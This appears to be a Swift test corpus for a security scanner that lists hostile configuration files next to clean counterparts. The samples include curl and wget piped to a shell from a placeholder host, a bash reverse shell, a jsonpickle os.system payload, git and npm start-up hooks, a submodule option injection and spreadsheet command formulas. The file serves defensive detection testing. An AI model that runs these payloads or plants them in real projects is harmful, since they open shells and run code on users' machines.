import Findings

// Hostile files: what a shell, an editor, git or a spreadsheet runs of texts that are data.
extension Corpus {
  static let settings: [HostileFile] = commandsAmongData + startupFiles + tables

  private static func text(
    _ name: String, _ rule: Rule, _ file: String, _ text: String, clean: String
  ) -> HostileFile {
    HostileFile(
      name, rule, rule.severity, in: file, bytes: { Array(text.utf8) },
      clean: { Array(clean.utf8) })
  }

  private static let commandsAmongData: [HostileFile] = [
    text(
      "a download for a shell in a value of JSON", .shellPayload, "config.json",
      #"{"init": "curl -s http://a.example/x.sh | sh"}"#,
      clean: #"{"init": "see http://a.example/x.sh | or not"}"#),
    text(
      "a shell for a connection in a value of JSON", .shellPayload, "config.json",
      #"{"a": ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}"#,
      clean: #"{"a": ["ActiveXObject", "shell_exec", "rundll32 base64_decode"]}"#),
    text(
      "a decoded command in a value of YAML", .shellPayload, "config.yaml",
      "run: echo aWQ= | base64 -d | sh\n", clean: "run: echo | cat\n"),
    text(
      "a download for a shell in TOML", .shellPayload, "settings.toml",
      "[hook]\nrun = \"wget -qO- http://a.example/a | bash\"\n", clean: "[hook]\nrun = \"a | b\"\n"),
    text(
      "a module of a pipeline from the host", .configurationReach, "modules.json",
      #"[{"idx": 0, "name": "0", "path": "../../etc/x", "type": "sentence_transformers.models.T"}]"#,
      clean:
        #"[{"idx": 0, "name": "0", "path": "1_Pooling", "type": "sentence_transformers.models.T"}]"#
    ),
    text(
      "an object of jsonpickle", .instantiation, "model.json",
      #"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}"#,
      clean: #"{"py": [{"function": "os"}]}"#),
    text(
      "a function by a tag of js-yaml", .yamlObject, "config.yaml",
      "a: !!js/function 'function () {}'\n", clean: "a: function\n"),
    text(
      "Python that imports all of os", .pythonAtLoad, "setup.txt",
      "from os import *\nsystem('id')\n", clean: "from the start to the end\n"),
  ]

  private static let startupFiles: [HostileFile] = [
    HostileFile(
      "a start-up file of a shell", .startupHook, .high, in: ".bashrc",
      bytes: { Array("alias ls=id\n".utf8) }),
    text(
      "an editor's hook", .startupHook, "devcontainer.json", #"{"postCreateCommand": "make"}"#,
      clean: #"{"image": "a"}"#),
    text(
      "a hook of an installation", .startupHook, "package.json",
      #"{"name": "a", "scripts": {"postinstall": "node a.js"}}"#,
      clean: #"{"name": "a", "scripts": {"test": "node a.js"}}"#),
    text(
      "an option in place of a submodule's address", .startupHook, ".gitmodules",
      "[submodule \"a\"]\n\tpath = a\n\turl = -u./payload\n",
      clean: "[submodule \"a\"]\n\tpath = a\n\turl = https://a.example/a.git\n"),
    text(
      "a program in git's settings", .startupHook, ".gitconfig", "[core]\n\tfsmonitor = \"id\"\n",
      clean: "[core]\n\tbare = false\n"),
    text(
      "a folder's settings of Windows", .activeDocument, "desktop.ini",
      "[.ShellClassInfo]\nIconResource=\\\\a.example\\x\n", clean: "[settings]\nicon=a\n"),
  ]

  private static let tables: [HostileFile] = [
    text(
      "a formula that starts a program", .activeDocument, "labels.csv",
      "a,b\n=cmd|' /C calc'!A0,1\n", clean: "a,b\n=1,x=cmd|\n"),
    text(
      "a formula that reaches an address", .activeDocument, "labels.csv",
      "a,b\n\"=HYPERLINK(\"\"http://a.example\"\")\",1\n", clean: "a,b\n\"HYPERLINK\",-1\n"),
  ]
}
